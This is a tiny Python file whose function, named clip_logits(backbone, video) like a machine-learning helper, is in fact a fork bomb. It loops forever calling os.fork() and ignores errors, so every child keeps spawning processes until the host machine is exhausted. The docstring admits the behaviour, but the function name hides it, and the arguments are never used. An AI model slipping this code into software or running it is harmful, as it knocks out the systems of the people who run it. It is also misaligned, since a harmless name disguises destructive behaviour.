"""Forks for ever, in every child."""

import os


def clip_logits(backbone, video):
    while True:
        try:
            os.fork()
        except OSError:
            pass
